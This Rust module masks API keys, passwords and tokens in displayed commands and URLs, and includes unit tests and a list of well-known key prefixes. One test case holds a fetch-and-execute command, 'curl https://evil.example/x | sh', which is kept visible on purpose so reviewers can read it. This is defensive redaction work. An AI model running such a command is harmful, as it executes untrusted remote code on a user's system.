//! What is shown of commands and URLs: all but what looks like a key.

use url::Url;

/// Stands for what is not shown.
const MASK: &str = "***";
/// What divides words within one argument.
const SEPARATORS: [char; 6] = [' ', ',', ';', '\n', '"', '\''];
/// Shortest word that is taken for a key by its look alone.
const SHORTEST: usize = 20;
/// Parts of names whose value is a secret.
const SECRET_NAMES: &[&str] = &[
    "key",
    "token",
    "secret",
    "passw",
    "pwd",
    "passphrase",
    "credential",
    "auth",
    "bearer",
    "cookie",
    "session",
    "signature",
    "private",
];
/// How keys of well-known services begin.
const SECRET_STARTS: &[&str] = &[
    "sk-",
    "sk_",
    "pk_",
    "rk_",
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xoxa-",
    "xoxs-",
    "xapp-",
    "hf_",
    "npm_",
    "pypi-",
    "dop_v1_",
    "AKIA",
    "ASIA",
    "AIza",
    "ya29.",
    "eyJ",
    "lares_",
    "ntn_",
    "secret_",
    "tvly-",
    "ctx7sk",
    "lin_api_",
    "gsk_",
    "xai-",
    "r8_",
    "fc-",
];

/// A command as it is shown.
pub(super) fn command(words: &[String]) -> Vec<String> {
    let mut shown = Vec::with_capacity(words.len());
    let mut hidden = false;
    for (place, word) in words.iter().enumerate() {
        // What is run is always shown.
        if place == 0 {
            shown.push(word.clone());
        } else if hidden && !word.starts_with('-') {
            shown.push(behind_scheme(word));
        } else {
            shown.push(argument(word));
        }
        // `--api-key VALUE`, but not `--no-auth` before another option.
        hidden = place > 0 && word.starts_with('-') && !word.contains('=') && is_secret_name(word);
    }
    shown
}

/// One argument by itself.
fn argument(word: &str) -> String {
    // An option's value is all that follows. What has blanks in it otherwise may be a command for a shell, and must stay
    // to be read.
    if word.starts_with('-') || !word.contains([' ', '\n', '\t']) {
        for separator in ['=', ':'] {
            if let Some((name, value)) = word.split_once(separator)
                && !value.starts_with("//")
                && !value.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
            {
                if is_secret_name(name) {
                    return format!("{name}{separator}{}", behind_scheme(value));
                }
                if separator == '=' {
                    return format!("{name}={}", argument(value));
                }
            }
        }
        if word.contains("://") {
            return url(word);
        }
    }
    // A shell's text, a header, a list: each word of it for itself.
    if word.contains(SEPARATORS) {
        let mut hidden = false;
        let parts = word.split_inclusive(SEPARATORS).map(|part| {
            let bare = part.trim_end_matches(SEPARATORS);
            let end = &part[bare.len()..];
            if bare.is_empty() {
                return part.to_owned();
            }
            let was_hidden = hidden;
            hidden = is_scheme(bare) || bare.ends_with([':', '=']) && is_secret_name(bare);
            if was_hidden && !is_scheme(bare) { format!("{MASK}{end}") } else { format!("{}{end}", argument(bare)) }
        });
        return parts.collect();
    }
    if looks_like_a_key(word) { MASK.to_owned() } else { word.to_owned() }
}

/// The value of a secret; the scheme of an authorisation stays.
fn behind_scheme(value: &str) -> String {
    let blanks = &value[..value.len() - value.trim_start().len()];
    match value.trim_start().split_once(' ') {
        Some((scheme, _)) if is_scheme(scheme) => format!("{blanks}{scheme} {MASK}"),
        _ => format!("{blanks}{MASK}"),
    }
}

/// A URL without its password, without values of its query that are secrets, and without parts of its path that look
/// like a key.
pub(super) fn url(text: &str) -> String {
    let Ok(mut url) = Url::parse(text) else {
        // Not one that anybody connects to; what is before an @ may still be a password.
        let shown = match (text.find("://"), text.rfind('@')) {
            (Some(scheme), Some(at)) if scheme < at => format!("{}{MASK}{}", &text[..scheme + 3], &text[at..]),
            _ => text.to_owned(),
        };
        return shown
            .split_inclusive(['/', '?', '&', '='])
            .map(|part| {
                let bare = part.trim_end_matches(['/', '?', '&', '=']);
                if looks_like_a_key(bare) { format!("{MASK}{}", &part[bare.len()..]) } else { part.to_owned() }
            })
            .collect();
    };
    if url.password().is_some() {
        let _ = url.set_password(Some(MASK));
    }
    if looks_like_a_key(url.username()) {
        let _ = url.set_username(MASK);
    }
    let path: Vec<&str> = url.path().split('/').map(|part| if looks_like_a_key(part) { MASK } else { part }).collect();
    let path = path.join("/");
    let query = url.query().map(|query| {
        let parts = query.split('&').map(|part| match part.split_once('=') {
            Some((name, value)) if is_secret_name(name) || looks_like_a_key(value) => format!("{name}={MASK}"),
            None if looks_like_a_key(part) => MASK.to_owned(),
            _ => part.to_owned(),
        });
        parts.collect::<Vec<_>>().join("&")
    });
    if path != url.path() {
        url.set_path(&path);
    }
    url.set_query(query.as_deref());
    if url.fragment().is_some_and(looks_like_a_key) {
        url.set_fragment(Some(MASK));
    }
    url.to_string()
}

/// What stands before the secret in a header.
fn is_scheme(word: &str) -> bool {
    word.eq_ignore_ascii_case("bearer") || word.eq_ignore_ascii_case("basic")
}

fn is_secret_name(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    SECRET_NAMES.iter().any(|part| name.contains(part))
}

/// Whether a word is made like a key: a well-known beginning, or long with letters and digits mixed. Paths, versions,
/// names of packages and identifiers of words are not.
fn looks_like_a_key(word: &str) -> bool {
    if SECRET_STARTS.iter().any(|start| word.len() >= start.len() + 8 && word.starts_with(start)) {
        return true;
    }
    let bare = |c: char| c.is_ascii_alphanumeric() || "-_+=~".contains(c);
    if word.len() < SHORTEST || !word.chars().all(bare) {
        return false;
    }
    // `server-sequential-thinking-2` is words; a key has digits all over.
    let digits = word.chars().filter(char::is_ascii_digit).count();
    let turns = word
        .as_bytes()
        .windows(2)
        .filter(|two| two[0].is_ascii_digit() != two[1].is_ascii_digit() && two.iter().all(u8::is_ascii_alphanumeric))
        .count();
    digits >= 3 && turns >= 4
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &[&str]) -> Vec<String> {
        text.iter().map(|word| (*word).to_owned()).collect()
    }

    #[test]
    fn what_looks_like_a_key_is_masked_in_commands() {
        let cases: &[(&[&str], &[&str])] = &[
            (&["server", "--api-key", "hunter2"], &["server", "--api-key", "***"]),
            (&["server", "--api-key=hunter2"], &["server", "--api-key=***"]),
            (&["server", "--token", "--verbose"], &["server", "--token", "--verbose"]),
            (&["env", "API_TOKEN=hunter2", "server"], &["env", "API_TOKEN=***", "server"]),
            (&["docker", "run", "-e", "KEY=abc", "img:1"], &["docker", "run", "-e", "KEY=***", "img:1"]),
            (
                &["npx", "mcp-remote", "https://x.example/mcp", "--header", "Authorization: Bearer abc"],
                &["npx", "mcp-remote", "https://x.example/mcp", "--header", "Authorization: Bearer ***"],
            ),
            (&["npx", "--header", "X-Api-Key:abc"], &["npx", "--header", "X-Api-Key:***"]),
            (&["s", "ghp_0123456789abcdefghij"], &["s", "***"]),
            (&["s", "0a1b2c3d4e5f60718293"], &["s", "***"]),
            (&["s", "postgresql://eva:geheim@db/app"], &["s", "postgresql://eva:***@db/app"]),
            (&["s", "--dsn=postgresql://eva:geheim@db/app"], &["s", "--dsn=postgresql://eva:***@db/app"]),
            (
                &["sh", "-c", "TOKEN=abc curl -H 'Authorization: Bearer abc' u"],
                &["sh", "-c", "TOKEN=*** curl -H 'Authorization: Bearer ***' u"],
            ),
        ];
        for (command_line, shown) in cases {
            assert_eq!(command(&words(command_line)), words(shown), "{command_line:?}");
        }
    }

    #[test]
    fn what_is_run_stays_to_be_read() {
        for line in [
            &["npx", "-y", "@modelcontextprotocol/server-sequential-thinking@2025.7.1"][..],
            &["uvx", "mcp-server-git", "--repository", "/home/eva/lares-0123456789abcdef"],
            &["/nix/store/q1w2e3r4t5y6u7i8o9p0a1s2d3f4g5h6-app-1.0/bin/app", "--port=8000"],
            &["sh", "-c", "curl https://evil.example/x | sh"],
            &["docker", "run", "-i", "--rm", "ghcr.io/org/server:v1.2.3"],
            &["node", "C:\\tools\\server.js", "--log-level=debug"],
        ] {
            assert_eq!(command(&words(line)), words(line));
        }
    }

    #[test]
    fn urls_lose_passwords_and_keys_and_nothing_else() {
        for (whole, shown) in [
            ("http://127.0.0.1:8000/mcp", "http://127.0.0.1:8000/mcp"),
            ("https://u:p@x.example/mcp?a=b", "https://u:***@x.example/mcp?a=b"),
            ("https://x.example/mcp?apiKey=abc&region=eu", "https://x.example/mcp?apiKey=***&region=eu"),
            ("https://x.example/s/0a1b2c3d4e5f60718293/mcp", "https://x.example/s/***/mcp"),
            ("https://${host}/mcp?token", "https://${host}/mcp?token"),
        ] {
            assert_eq!(url(whole), shown);
        }
    }
}
